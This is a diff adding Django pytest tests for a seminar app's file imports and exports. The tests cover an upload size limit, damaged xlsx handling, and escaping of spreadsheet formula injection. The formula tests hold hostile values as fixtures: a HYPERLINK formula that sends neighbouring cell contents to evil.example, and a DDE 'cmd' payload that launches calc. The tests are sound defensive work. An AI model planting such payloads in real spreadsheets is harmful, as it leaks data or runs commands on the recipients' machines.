@@ -4,6 +4,7 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from immersion.common.tabular import write_table
 from immersion.people.models import Participant
 from immersion.seminars.models import SeminarStatus
 from immersion.sites.models import HostSite, Offer
@@ -321,3 +322,93 @@ def test_withdrawn_participant_leaves_the_list_and_can_be_reinstated(organizer_c
     organizer_client.post(reverse("organizer:participant_reinstate", args=[seminar.pk, p.pk]))
     p.refresh_from_db()
     assert p.withdrawn_at is None
+
+
+def import_urls(seminar):
+    return [
+        reverse("organizer:participant_import", args=[seminar.pk]),
+        reverse("organizer:site_import"),
+    ]
+
+
+@pytest.mark.parametrize("which", [0, 1])
+def test_import_page_refuses_a_file_over_10_mb_saying_its_size(organizer_client, seminar, which):
+    content = b"Nom;Type\n" + b"x" * (11 * 1024 * 1024)
+    response = organizer_client.post(
+        import_urls(seminar)[which], {"file": SimpleUploadedFile("liste.csv", content)}
+    )
+    assert response.status_code == 200
+    assert "Le fichier dépasse 10 Mo (11,0 Mo)" in page(response)
+    assert not Participant.objects.exists() and not HostSite.objects.exists()
+
+
+@pytest.mark.parametrize("which", [0, 1])
+def test_import_page_answers_a_damaged_xlsx_in_french_not_with_a_500(
+    organizer_client, seminar, which
+):
+    content = write_table("xlsx", ["Nom", "Type"], [["Caf", "caf"]] * 50)
+    response = organizer_client.post(
+        import_urls(seminar)[which],
+        {"file": SimpleUploadedFile("liste.xlsx", content[: len(content) // 2])},
+    )
+    assert response.status_code == 200
+    assert "Fichier refusé : 1 erreur" in page(response)
+    assert "pas un classeur Excel (.xlsx) lisible" in page(response)
+
+
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def sheet_cells(content: bytes) -> list[dict[str, object]]:
+    import io
+    import zipfile
+
+    import openpyxl
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml, "a cell was written as a formula"
+    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def csv_cells(content: bytes) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_participant_export_never_hands_a_participants_text_over_as_a_formula(
+    organizer_client, seminar, prefix
+):
+    attack = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
+    dde = f"{prefix}cmd|' /C calc'!A0"
+    ParticipantFactory(seminar=seminar, function=attack, dietary_needs=dde, max_km=30)
+    url = reverse("organizer:participant_export", args=[seminar.pk, "csv"])
+    [row] = csv_cells(organizer_client.get(url).content)
+    assert (row["Fonction"], row["Régime alimentaire"]) == (f"'{attack}", f"'{dde}")
+    assert row["Distance max (km)"] == "30"
+    url = reverse("organizer:participant_export", args=[seminar.pk, "xlsx"])
+    [row] = sheet_cells(organizer_client.get(url).content)
+    assert (row["Fonction"], row["Régime alimentaire"]) == (attack, dde)
+    assert row["Distance max (km)"] == 30
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_site_export_never_hands_a_sites_text_over_as_a_formula(organizer_client, prefix):
+    attack = f'{prefix}HYPERLINK("http://evil.example/","Plan")'
+    SiteFactory(
+        name=f"{prefix}Caf", accessibility_notes=attack, phone="+33 2 99 00 00 01", longitude=-1.69
+    )
+    [row] = csv_cells(organizer_client.get(reverse("organizer:site_export", args=["csv"])).content)
+    assert (row["Nom"], row["Accessibilité"]) == (f"'{prefix}Caf", f"'{attack}")
+    assert row["Téléphone"] == "'+33 2 99 00 00 01"
+    assert row["Longitude"] == "-1.69", "a number is not text: no apostrophe"
+    [row] = sheet_cells(
+        organizer_client.get(reverse("organizer:site_export", args=["xlsx"])).content
+    )
+    assert (row["Nom"], row["Accessibilité"]) == (f"{prefix}Caf", attack)
+    assert row["Téléphone"] == "+33 2 99 00 00 01"
+    assert row["Longitude"] == -1.69
